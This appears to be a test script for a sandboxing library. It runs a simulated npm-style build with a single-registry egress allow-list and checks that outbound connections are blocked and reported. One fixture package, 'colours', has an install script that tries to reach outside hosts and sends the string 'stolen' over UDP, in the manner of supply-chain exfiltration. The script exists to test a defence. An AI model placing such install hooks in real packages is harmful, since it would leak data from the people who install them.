// A build that fetches its packages from one registry and from nowhere else. The registry is a sandbox on a private network; the
// builder may send to its address and port only (an egress allow-list in its own network namespace). One of the packages has an
// install script that would send what it finds to a stranger: it is refused at once, and told. Runs as root and as an ordinary user.
const assert = require('node:assert');
const { once } = require('node:events');
const { Network, Sandbox } = require('../..');

const PORT = 4873;

/** What the registry has. Install scripts run in the build, as npm runs them. */
const packages = {
  'left-pad': { version: '1.3.0', main: 'module.exports = (text, size) => String(text).padStart(size);' },
  colours: {
    version: '2.1.0',
    main: 'module.exports = (text) => "*" + text + "*";',
    install: `
      const net = require('node:net'), dgram = require('node:dgram');
      // A stranger on the internet, another sandbox of the same network, a name server.
      for (const [host, port] of [['203.0.113.9', 443], [process.env.NEIGHBOUR, 5432]])
        net.connect(port, host).on('error', (error) => console.log('    colours: ' + error.code + ' ' + host + ':' + port));
      const socket = dgram.createSocket('udp4');
      socket.send('stolen', 53, '203.0.113.53', (error) => {
        console.log('    colours: ' + (error ? error.code : 'sent') + ' 203.0.113.53:53'); socket.close();
      });`,
  },
};

const registry = `
const packages = ${JSON.stringify(packages)};
require('node:http').createServer((request, response) => {
  const found = packages[request.url.slice(1)];
  response.writeHead(found ? 200 : 404).end(JSON.stringify(found ?? { error: 'no such package' }));
}).listen(${PORT}, () => console.log('ready'));`;

/** Install, then bundle: what a package manager and a bundler do, in a few lines. */
const build = `
const fs = require('node:fs'), { spawnSync } = require('node:child_process');
(async () => {
  for (const name of ['left-pad', 'colours']) {
    const { version, main, install } = await (await fetch('http://registry:${PORT}/' + name)).json();
    fs.mkdirSync('node_modules/' + name, { recursive: true });
    fs.writeFileSync('node_modules/' + name + '/index.js', main);
    console.log('  + ' + name + '@' + version);
    if (install) spawnSync(process.execPath, ['-e', install], { stdio: ['ignore', 'inherit', 'inherit'] });
  }
  const text = require(process.cwd() + '/node_modules/left-pad')('built', 7);
  console.log('  = ' + require(process.cwd() + '/node_modules/colours')(text));
})();`;

async function main() {
  const network = await Network.create({ name: 'build', subnet: '10.30.0.0/24' });
  const attach = (hostname, more) => Sandbox.create({ hostname, network: { bridge: network, ...more } });
  const server = await attach('registry');
  const neighbour = await attach('neighbour');
  const address = Object.fromEntries(network.members().map(({ names, address }) => [names[0], address]));
  const builder = await attach('builder', { egress: { allow: [{ to: address.registry, ports: [PORT] }] } });
  const told = [];
  builder.on('egressDenied', (denied) => told.push(denied));
  try {
    const listening = server.spawn(process.execPath, ['-e', registry], { stdin: 'ignore' });
    await once(listening.stdout, 'data');
    console.log(`registry ${address.registry}:${PORT}, the only place that the builder may reach\n`);

    const result = await builder.run(process.execPath, ['-e', build], {
      env: { NEIGHBOUR: address.neighbour },
      timeout: 60_000,
    });
    process.stdout.write(result.stdout);
    assert(result.ok, result.stderr);

    const { allowed, denied } = result.egress;
    console.log('\nverdict  destination             packets');
    const line = (verdict, to, packets) => console.log(`${verdict.padEnd(8)} ${to.padEnd(23)} ${packets}`);
    for (const { to, protocol, ports, packets } of allowed)
      line('allowed', `${protocol} ${to.replace('/32', '')}:${ports[0][0]}`, packets);
    for (const { address, port, protocol, packets } of denied)
      line('denied', `${protocol} ${address}:${port}`, packets);
    assert.equal(denied.length, 3);
    assert.equal(told.length, 3);
    console.log(`\n${told.length} events 'egressDenied', one for each destination`);
  } finally {
    await Promise.all([builder, server, neighbour].map((sandbox) => sandbox.delete()));
    await network.close();
  }
}

main();
